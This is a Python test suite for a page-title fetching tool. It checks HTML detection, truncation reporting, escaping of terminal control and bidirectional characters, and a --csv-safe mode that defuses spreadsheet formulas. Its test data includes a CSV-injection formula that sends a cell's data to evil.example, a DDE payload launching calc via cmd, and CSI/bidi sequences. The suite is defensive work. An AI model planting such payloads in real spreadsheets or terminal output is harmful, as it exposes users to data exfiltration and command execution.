"""What records say (issue 15 items 9 and 17): no title from bodies a browser would not show
as a page, with the reason recorded; text output that cannot reorder or fake the terminal
line; CSV a spreadsheet will not run as formulas (--csv-safe). Run by test_records.sh inside a
fresh network namespace."""
import csv
import gzip
import io
import json
import os
import select
import subprocess
import sys
import tempfile

sys.path.insert(0, os.path.join(os.environ["CAFE_SOURCE_DIR"], "tests", "util"))
from harness import CAFE, HeadServer, cafe, http_reply, run_tests  # noqa: E402

tmp = tempfile.mkdtemp(prefix="cafe-records-")
BODY = b"<html><head><title>Inside</title></head><body>x</body></html>"
PAGES = {  # path: (Content-Type header or None, body)
    "/html": (b"text/html", BODY),
    # XML: a title counts in the XHTML namespace only, as in browsers
    "/xhtml": (b"application/xhtml+xml",
               BODY.replace(b"<html>", b'<html xmlns="http://www.w3.org/1999/xhtml">')),
    "/xhtml-no-namespace": (b"application/xhtml+xml", BODY),
    # no Content-Type, "<?xml": browsers sniff text/xml and parse it as XML
    "/untyped-xml": (None, b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">'
                     b"<title>Inside</title></html>"),
    "/plain": (b"text/plain", BODY),
    "/json": (b"application/json", b'{"a": "<title>Inside</title>"}'),
    "/png": (b"image/png", b"\x89PNG\r\n<title>Inside</title>"),
    "/octet": (b"application/octet-stream", BODY),
    "/untyped-html": (None, b"  <!DOCTYPE html>" + BODY),
    "/untyped-text": (None, b"hello <title>Inside</title>"),
    "/bidi": (b"text/html; charset=utf-8",
              "<title>a\u202eb\u2066c\u2028d\\x1b e\\\\f</title>".encode()),
    "/formula": (b"text/html; charset=utf-8",
                 b'<title>=HYPERLINK("http://evil.example/?x="&A1,"Click")</title>'),
    "/bidi-rest": (b"text/html; charset=utf-8",
                   "<title>p\u2029q\u2067r\u2068s\u2069t</title>".encode()),
    "/breaks": (b"text/html; charset=utf-8", "<title>a\u2028b\u2029c\x85d</title>".encode()),
    "/c1": (b"text/html; charset=utf-8", "<title>a\x9b31mb\u202ec\u061cd\x80e</title>".encode()),
    "/plus": (b"text/html", b"<title>+1+2</title>"),
    "/minus": (b"text/html", b"<title>-2+3</title>"),
    "/at": (b"text/html", b"<title>@SUM(A1)</title>"),
    # a title that starts as --csv-safe's mark does: a page's own text
    "/twas": (b"text/html", b"<title>''Twas the night</title>"),
    "/quoted-formula": (b"text/html", b"<title>'=1+1</title>"),
    "/empty-title": (b"text/html", b"<title> </title>"),
    "/no-title": (b"text/html", b"<p>none"),
    "/late-title": (b"text/html", b"<html><head>" + b" " * 300 + b"<title>Late</title>"),
    "/long-title": (b"text/html", b"<title>" + b"x" * 300 + b"</title>"),
    "/huge-title": (b"text/html; charset=utf-8", ("<title>" + "\u00e9" * 3000 + "</title>").encode()),
    "/end-tag-cut": (b"text/html", b"<title>" + b"x" * 39 + b"</title>"),
    # 50 bytes cut "é" after its first byte, and "&#x4E2D;" ("中") after "&#x4E"
    "/char-cut": (b"text/html; charset=utf-8", "<title>{}Café</title>".format("x" * 39).encode()),
    "/ref-cut": (b"text/html; charset=utf-8", b"<title>" + b"x" * 37 + b" &#x4E2D;</title>"),
}
# The title last, so that the whole body is read: bytes is then exactly its decoded size.
GZIP_PAGE = b"<html><head>" + b"<!-- filler -->" * 2000 + b"<title>Zipped</title>"


def chunked_reply(chunks):
    """A chunked 200 that closes the connection: each chunk its own size line."""
    head = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nTransfer-Encoding: chunked\r\n" \
           b"Connection: close\r\n\r\n"
    return head + b"".join(b"%x\r\n%s\r\n" % (len(c), c) for c in chunks) + b"0\r\n\r\n"


def answer(head):
    path = head.split(b" ")[1].decode()
    if path == "/chunked":  # the title in the first of 50 chunks of 8 KiB: stopped early
        return chunked_reply([b"<title>Chunks</title>" + b" " * 8171] + [b"x" * 8192] * 49)
    if path == "/nul-tail":  # undeclared, NUL bytes after the title: 400 KiB of them
        return chunked_reply([b"<html><head><title>Nul</title>"] + [b"\0" * 8192] * 50)
    if path == "/gzip":
        z = gzip.compress(GZIP_PAGE)
        return b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Encoding: gzip\r\n" \
            b"Content-Length: %d\r\nConnection: close\r\n\r\n" % len(z) + z
    ctype, body = PAGES[path]
    return http_reply(body, ctype)


srv = HeadServer(answer)


def listing(paths):
    return listing_of([srv.url(p) for p in paths])


def listing_of(urls):
    path = os.path.join(tmp, f"l{len(os.listdir(tmp))}.txt")
    with open(path, "w") as f:
        f.write("\n".join(urls) + "\n")
    return path


def test_only_html_gets_a_title():
    paths = ["/html", "/xhtml", "/plain", "/json", "/png", "/octet", "/untyped-html",
             "/untyped-text", "/xhtml-no-namespace", "/untyped-xml"]
    r = cafe("titles", "-q", "--json", listing(paths))
    assert r.returncode == 0, r.stderr
    recs = {x["url"][len(srv.url("")):]: x for x in map(json.loads, r.stdout.splitlines())}
    for p in ("/html", "/xhtml", "/untyped-html", "/untyped-xml"):
        assert recs[p]["title"] == "Inside" and recs[p]["error"] is None, recs[p]
    assert recs["/xhtml-no-namespace"]["title"] is None, recs["/xhtml-no-namespace"]
    assert recs["/xhtml-no-namespace"]["error"] is None, recs["/xhtml-no-namespace"]
    for p, t in (("/plain", "text/plain"), ("/json", "application/json"),
                 ("/png", "image/png"), ("/octet", "application/octet-stream")):
        assert recs[p]["title"] is None and recs[p]["content_type"] == t, recs[p]
        assert recs[p]["error"] == f"not HTML ({t})", recs[p]
    assert recs["/untyped-text"]["title"] is None, recs["/untyped-text"]
    assert recs["/untyped-text"]["error"].startswith("not HTML (no Content-Type")
    # not a failure: the summary counts them ok, --fail does not fire
    r = cafe("titles", "--fail", listing(["/png", "/html"]))
    assert r.returncode == 0 and b"2 ok, 0 failed" in r.stderr, r.stderr
    assert r.stdout.decode().splitlines()[0] == f"(not HTML (image/png)) from {srv.url('/png')}"


class SplitServer(HeadServer):
    """Sends a reply without a Content-Type in two writes: its first bytes (too few to tell
    what it is), then, after a stall longer than cafe's 500 ms pause, the rest."""

    def handle(self, conn):
        with conn:
            head = self.read_head(conn)
            first, rest = SPLIT[head.split(b" ")[1].decode()]
            conn.sendall(b"HTTP/1.1 200 OK\r\nConnection: close\r\n\r\n" + first)
            select.select([conn], [], [], 0.7)  # a stall: nothing comes from cafe
            conn.sendall(rest)


XHTML_BODY = b'<html xmlns="http://www.w3.org/1999/xhtml"><title>Split</title></html>'
SPLIT = {"/xml": (b"<?x", b'ml version="1.0"?>' + XHTML_BODY),
         "/html": (b"\n <", b"html><title>Split</title></html>"),
         "/spaces": (b" " * 100, b"<!DOCTYPE html><title>Split</title>"),
         "/text": (b"<", b"?not markup <title>Split</title>")}


def test_an_untyped_body_is_sniffed_on_enough_bytes():
    # The sniffing of a body without a Content-Type read the first chunk alone: "<?x" (or
    # "<", whitespace) is no signature, and the page was "not HTML", where browsers wait for
    # the bytes that tell (MIME Sniffing's resource header)
    split = SplitServer(None)
    try:
        urls = [split.url(p) for p in SPLIT]
        r = cafe("titles", "-q", "--json", listing_of(urls))
    finally:
        split.close()
    recs = {x["url"].rsplit("/", 1)[1]: x for x in map(json.loads, r.stdout.splitlines())}
    for p in ("xml", "html", "spaces"):
        assert recs[p]["title"] == "Split" and recs[p]["error"] is None, recs[p]
    assert recs["text"]["title"] is None, recs["text"]
    assert recs["text"]["error"].startswith("not HTML (no Content-Type"), recs["text"]


def test_a_body_cut_at_max_bytes_says_so():
    # issue 15 item 14: title null and error null used to hide that the page was cut
    r = cafe("titles", "-q", "--json", "--max-bytes", "50",
             listing(["/late-title", "/long-title", "/html"]))
    assert r.returncode == 0, r.stderr
    recs = {x["url"][len(srv.url("")):]: x for x in map(json.loads, r.stdout.splitlines())}
    late, long_, whole = recs["/late-title"], recs["/long-title"], recs["/html"]
    assert late["title"] is None, late
    assert late["error"] == "body cut at --max-bytes 50 before any title", late
    assert long_["title"] == "x" * 43, long_  # what came before the cut
    assert long_["error"] == "body cut at --max-bytes 50 before the end of the title", long_
    assert whole["title"] == "Inside" and whole["error"] is None, whole  # complete: no reason
    # cut inside the end tag: its first bytes are no part of the title (it said "x...x</t")
    r = cafe("titles", "-q", "--json", "--max-bytes", "50", listing(["/end-tag-cut"]))
    rec = json.loads(r.stdout)
    assert rec["title"] == "x" * 39, rec
    assert rec["error"] == "body cut at --max-bytes 50 before the end of the title", rec
    # cut inside a character or a reference: what came whole, no U+FFFD, no "N" for "中"
    r = cafe("titles", "-q", "--json", "--max-bytes", "50", listing(["/char-cut", "/ref-cut"]))
    char, ref = map(json.loads, r.stdout.splitlines())
    assert char["title"] == "x" * 39 + "Caf", char
    assert ref["title"] == "x" * 37, ref
    assert ref["error"] == "body cut at --max-bytes 50 before the end of the title", ref
    # not a failure: counted ok; text output gives the reason where the title would be
    r = cafe("titles", "--fail", "--max-bytes", "50", listing(["/late-title"]))
    assert r.returncode == 0 and b"1 ok, 0 failed" in r.stderr, r.stderr
    assert r.stdout.decode() == \
        f"(body cut at --max-bytes 50 before any title) from {srv.url('/late-title')}\n"
    # a title cut before its end: its line said 'xxx' from URL, as for a whole title; it
    # ends in an ellipsis inside the quotes now, the line's shape kept
    r = cafe("titles", "--max-bytes", "50", listing(["/long-title", "/html"]))
    assert r.returncode == 0, r.stderr
    assert r.stdout.decode().splitlines() == [
        f"'{'x' * 43}\u2026' from {srv.url('/long-title')}",
        f"'Inside' from {srv.url('/html')}"], r.stdout


def test_a_title_cut_at_the_cap_says_so():
    # a title longer than the 4096 bytes kept was cut there with no mark: the record read as
    # the page's whole title. Now it is marked as one cut at --max-bytes is: the error field
    # gives the reason (no failure), the text line an ellipsis inside the quotes
    r = cafe("titles", "-q", "--fail", "--json", listing(["/huge-title", "/long-title"]))
    assert r.returncode == 0, r.stderr
    huge, long_ = map(json.loads, r.stdout.splitlines())
    assert huge["title"] == "\u00e9" * 2048, huge  # cut at a character's end, 4096 bytes
    assert huge["error"] == "title cut at 4096 bytes, the longest kept", huge
    assert long_["title"] == "x" * 300 and long_["error"] is None, long_
    r = cafe("titles", "--fail", listing(["/huge-title"]))
    assert r.returncode == 0 and b"1 ok, 0 failed" in r.stderr, r.stderr
    cut = "\u00e9" * 2048
    assert r.stdout.decode() == f"'{cut}\u2026' from {srv.url('/huge-title')}\n", r.stdout


def test_bytes_is_the_decoded_body_received():
    # issue 15 item 14: bytes is the body received, after decoding (httpx's content_length;
    # curl's size_download counts it before), whether read whole or stopped at the title
    r = cafe("titles", "-q", "--json", listing(["/gzip", "/chunked", "/late-title"]))
    assert r.returncode == 0, r.stderr
    recs = {x["url"][len(srv.url("")):]: x for x in map(json.loads, r.stdout.splitlines())}
    z = recs["/gzip"]
    assert z["title"] == "Zipped" and z["bytes"] == len(GZIP_PAGE), z  # not the gzip size
    # stopped at the title in the first chunk, connection closed: what arrived by then (it
    # used to say 0: curl counts a chunked read only once the callback took it)
    c = recs["/chunked"]
    assert c["title"] == "Chunks" and 0 < c["bytes"] < 50 * 8192, c
    assert recs["/late-title"]["bytes"] == len(PAGES["/late-title"][1]), recs["/late-title"]
    # cut at --max-bytes: what was received, at least the cap, at most the page
    r = cafe("titles", "-q", "--json", "--max-bytes", "50", listing(["/late-title"]))
    late = json.loads(r.stdout)
    assert 50 <= late["bytes"] <= len(PAGES["/late-title"][1]), late
    assert late["error"] == "body cut at --max-bytes 50 before any title", late


def test_a_head_that_never_ends_stops_at_the_late_meta_bound():
    # Undeclared, the title waits for the head's end (a late <meta> could name the encoding);
    # browsers drop the NULs, which end nothing: it waited to the end, read to --max-bytes.
    # A late <meta> counts within the first 64 KiB (CAFE_TITLE_LATE_META): stopped there.
    r = cafe("titles", "-q", "--json", listing(["/nul-tail"]))
    assert r.returncode == 0, r.stderr
    rec = json.loads(r.stdout)
    assert rec["title"] == "Nul" and rec["error"] is None, rec
    assert 65536 <= rec["bytes"] < 50 * 8192, rec


def test_text_output_escapes_what_could_fool_the_terminal():
    r = cafe("titles", "-q", listing(["/bidi"]))
    line = r.stdout.decode().splitlines()[0]
    # U+202E, U+2066, U+2028 as \\uNNNN; the text "\x1b" and "\\" with their backslash doubled
    assert line == ("'a\\u202eb\\u2066c\\u2028d\\\\x1b e\\\\\\\\f' from " + srv.url("/bidi")), line
    r = cafe("titles", "-q", "--json", listing(["/bidi"]))  # JSON keeps the title as it is
    assert json.loads(r.stdout)["title"] == "a\u202eb\u2066c\u2028d\\x1b e\\\\f", r.stdout
    # the rest of the list: U+2029 and the isolates U+2067-2069
    r = cafe("titles", "-q", listing(["/bidi-rest"]))
    assert r.stdout.decode() == ("'p\\u2029q\\u2067r\\u2068s\\u2069t' from "
                                 + srv.url("/bidi-rest") + "\n"), r.stdout


def test_json_lines_split_only_at_their_newlines():
    # U+2028, U+2029 and U+0085 are legal raw in a JSON string, but Python's splitlines()
    # (and other line readers) end a line there: each record was split into halves that are
    # not JSON. Escaped as \uNNNN, as Go's encoding/json does; the title is the same.
    r = cafe("titles", "-q", "--json", listing(["/breaks", "/html"]))
    assert r.returncode == 0, r.stderr
    lines = r.stdout.decode().splitlines()
    assert len(lines) == 2 and "\\u2028" in lines[0] and "\\u0085" in lines[0], lines
    assert json.loads(lines[0])["title"] == "a\u2028b\u2029c\x85d", lines[0]


def test_json_lines_on_a_terminal_cannot_drive_it():
    # The text format escaped C1 controls and the bidirectional ones, JSON passed them raw:
    # `cafe titles --json` read on a terminal got a CSI (U+009B, "\x9b31m" turns it red on a
    # terminal that takes 8-bit controls) or a right-to-left override reordering its line.
    # Escaped as \uNNNN; the title is the same to any JSON reader.
    r = cafe("titles", "-q", "--json", listing(["/c1"]))
    assert r.returncode == 0, r.stderr
    raw = r.stdout.decode()
    assert not any(0x80 <= ord(c) <= 0x9f or c in "\u202e\u061c" for c in raw), ascii(raw)
    assert "\\u009b31mb\\u202ec\\u061cd\\u0080e" in raw, raw
    assert json.loads(raw)["title"] == "a\x9b31mb\u202ec\u061cd\x80e", raw


def test_csv_safe_quotes_formulas_only_when_asked():
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    for opt, want in (("--csv", formula), ("--csv-safe", "'" + formula)):
        r = cafe("titles", "-q", opt, listing(["/formula", "/html"]))
        assert r.returncode == 0, r.stderr
        rows = list(csv.DictReader(io.StringIO(r.stdout.decode(), newline="")))
        titles = {x["url"][len(srv.url("")):]: x["title"] for x in rows}
        assert titles == {"/formula": want, "/html": "Inside"}, (opt, titles)
    # OWASP's other formula starts: + - @
    r = cafe("titles", "-q", "--csv-safe", listing(["/plus", "/minus", "/at"]))
    rows = list(csv.DictReader(io.StringIO(r.stdout.decode(), newline="")))
    assert [x["title"] for x in rows] == ["'+1+2", "'-2+3", "'@SUM(A1)"], rows


def test_csv_safe_resume_takes_the_mark_off_the_urls():
    """A URL line that is itself a formula is recorded with the mark; --resume must still
    know it is done, so a second run adds nothing."""
    path = listing(["/formula"])
    with open(path, "a") as f:
        f.write("=cmd|' /C calc'!A0\n'quoted line\n")
    out = os.path.join(tmp, "safe.csv")
    r = cafe("titles", "-q", "--csv-safe", "-o", out, path)
    assert r.returncode == 0, r.stderr
    with open(out, newline="") as f:
        first = f.read()
    urls = [x["url"] for x in csv.DictReader(io.StringIO(first, newline=""))]
    assert urls == [srv.url("/formula"), "'=cmd|' /C calc'!A0", "''quoted line"], urls
    r = cafe("titles", "-q", "--csv-safe", "--resume", "-o", out, path)
    assert r.returncode == 0, r.stderr
    with open(out, newline="") as f:
        assert f.read() == first



def test_csv_safe_resume_refuses_a_plain_csv_file():
    """--resume --csv-safe onto a file --csv wrote: its formulas stayed unmarked in the first
    part (the safety asked for, silently not there), and a line recorded as 'x was not
    found under its mark, so it was fetched and written a second time. Refused, naming the
    line, with the file as it was."""
    path = listing(["/formula", "/html"])
    with open(path, "a") as f:
        f.write("'quoted line\n")
    out = os.path.join(tmp, "plain.csv")
    assert cafe("titles", "-q", "--csv", "-o", out, path).returncode == 0
    with open(out, "rb") as f:
        first = f.read()
    r = cafe("titles", "-q", "--csv-safe", "--resume", "-o", out, path)
    assert r.returncode == 2, r.stderr
    assert b"line 2 is not a record of this format of cafe --csv-safe output" in r.stderr, r.stderr
    assert b"formula without the mark: --csv wrote it" in r.stderr, r.stderr
    with open(out, "rb") as f:
        assert f.read() == first


def test_csv_resume_refuses_a_csv_safe_file():
    """--resume --csv onto a file --csv-safe wrote went on unnoticed: a line recorded under
    its mark ('quoted line as ''quoted line) was not found, so it was fetched and written a
    second time, and its tail held live formulas below the marked ones. Refused, naming the
    line, with the file as it was. (The line before, whose title is marked, is no evidence:
    a page's title may start so itself, test_csv_resume_reads_titles_that_start_as_the_mark.)"""
    path = listing(["/html", "/formula"])
    with open(path, "a") as f:
        f.write("'quoted line\n")
    out = os.path.join(tmp, "marked.csv")
    assert cafe("titles", "-q", "--csv-safe", "-o", out, path).returncode == 0
    with open(out, "rb") as f:
        first = f.read()
    r = cafe("titles", "-q", "--csv", "--resume", "-o", out, path)
    assert r.returncode == 2, r.stderr
    assert b"line 4 is not a record of this format of cafe --csv output" in r.stderr, r.stderr
    assert b"its URL starts with the ' --csv-safe puts before a formula: --csv-safe wrote it" \
        in r.stderr, r.stderr
    with open(out, "rb") as f:
        assert f.read() == first
    # the same file resumed as it was written adds nothing
    r = cafe("titles", "-q", "--csv-safe", "--resume", "-o", out, path)
    assert r.returncode == 0, r.stderr
    with open(out, "rb") as f:
        assert f.read() == first



def csv_resume_adds(path, out, first, url):
    """Adds url to the list at path and resumes the --csv run into out, whose bytes were
    first: the file keeps them and gains url's record alone."""
    with open(path, "a") as f:
        f.write(url + "\n")
    r = cafe("titles", "-q", "--csv", "--resume", "-o", out, path)
    assert r.returncode == 0, r.stderr
    with open(out, "rb") as f:
        grown = f.read()
    assert grown.startswith(first), grown
    rows = list(csv.reader(io.StringIO(grown[len(first):].decode(), newline="")))
    assert [x[0] for x in rows] == [url], rows

def test_csv_resume_reads_titles_that_start_as_the_mark():
    """A --csv file holding a title that starts with ' and a formula start (''Twas the night,
    or a hostile page's '=1+1), as --csv writes it, was refused by --resume --csv as written
    by --csv-safe, and by --resume --csv-safe for any other title starting as a formula (the
    file holds it unmarked): one such page made an interrupted run impossible to resume.
    Only a URL with the mark tells --csv-safe's file; the rest is resumed, once a URL."""
    path = listing(["/twas", "/quoted-formula", "/at"])
    out = os.path.join(tmp, "twas.csv")
    assert cafe("titles", "-q", "--csv", "-o", out, path).returncode == 0
    with open(out, "rb") as f:
        first = f.read()
    rows = list(csv.reader(io.StringIO(first.decode(), newline="")))
    assert [x[3] for x in rows[1:]] == ["''Twas the night", "'=1+1", "@SUM(A1)"], rows
    csv_resume_adds(path, out, first, srv.url("/html"))


def test_csv_resume_reads_a_url_line_that_starts_as_the_mark():
    """A list's line that itself starts with ' and a formula start ('=A1, a cell a
    spreadsheet kept as text) is recorded by --csv as it is, which is how --csv-safe marks a
    line =A1: every --resume --csv of the file refused it as --csv-safe's, and the run could
    never be finished. Its error tells it: the line was quoted, which a line starting with
    = never is. A line starting '' stays refused: --csv-safe's mark before a line 'x has the
    same error."""
    path = listing(["/html"])
    with open(path, "a") as f:
        f.write("'=A1\n'-x\n")
    out = os.path.join(tmp, "quoted-line.csv")
    assert cafe("titles", "-q", "--csv", "-o", out, path).returncode == 0
    with open(out, "rb") as f:
        first = f.read()
    assert b"\r\n'=A1,," in first and b"\r\n'-x,," in first, first
    csv_resume_adds(path, out, first, srv.url("/formula"))
    # --csv-safe's file of the line =A1 (marked '=A1, its error not "quoted") stays refused
    safe = os.path.join(tmp, "marked-line.csv")
    with open(path, "w") as f:
        f.write("=A1\n")
    assert cafe("titles", "-q", "--csv-safe", "-o", safe, path).returncode == 0
    r = cafe("titles", "-q", "--csv", "--resume", "-o", safe, path)
    assert r.returncode == 2 and b"--csv-safe wrote it" in r.stderr, (r.returncode, r.stderr)


def test_csv_tells_an_empty_title_from_none():
    """JSON's "title":"" (an empty <title>) and "title":null (no <title>) were both an empty
    CSV field. An empty string is now "" and null nothing, as PostgreSQL's COPY ... CSV writes
    and reads them (RFC 4180 allows both; Python's csv reads both as ''); --resume reads it."""
    path = listing(["/empty-title", "/no-title"])
    want = {"/empty-title": "", "/no-title": None}
    r = cafe("titles", "-q", "--json", path)
    got = {x["url"][len(srv.url("")):]: x["title"] for x in map(json.loads, r.stdout.splitlines())}
    assert got == want, got
    for opt in ("--csv", "--csv-safe"):
        out = os.path.join(tmp, f"empty{opt}.csv")
        r = cafe("titles", "-q", opt, "-o", out, path)
        assert r.returncode == 0, r.stderr
        with open(out, "rb") as f:
            first = f.read()
        rows = first.split(b"\r\n")
        for row, (p, title) in zip(rows[1:], want.items()):
            head = b"%s,%s,200," % (srv.url(p).encode(), srv.url(p).encode())
            field = b'"",' if title == "" else b","
            assert row.startswith(head + field + b"text/html,"), (opt, row)
        r = cafe("titles", "-q", opt, "--resume", "-o", out, path)
        assert r.returncode == 0, r.stderr
        with open(out, "rb") as f:
            assert f.read() == first, opt


def test_csv_to_a_file_already_written_has_its_header():
    # The header was left out whenever standard output's offset was past 0, a test meant
    # for a resumed -o file: `{ echo "# run of Monday"; cafe titles --csv list; } > out.csv`
    # or a script's redirected output got its records with no header row. Only a file
    # --resume appends to is taken to have one.
    for opt in ("--csv", "--csv-safe"):
        out = os.path.join(tmp, f"after-text{opt}.csv")
        with open(out, "wb") as f:
            f.write(b"# run of Monday\n")
            f.flush()
            r = subprocess.run([CAFE, "titles", "-q", opt, listing(["/html"])], stdout=f,
                               stderr=subprocess.PIPE, timeout=120)
        assert r.returncode == 0, r.stderr
        with open(out, "rb") as f:
            lines = f.read().split(b"\r\n")
        assert lines[0] == b"# run of Monday\nurl,final_url,status,title,content_type,charset," \
            b"charset_source,bytes,time_ms,attempts,error", (opt, lines)
        assert lines[1].startswith(srv.url("/html").encode() + b","), (opt, lines)


run_tests(globals())
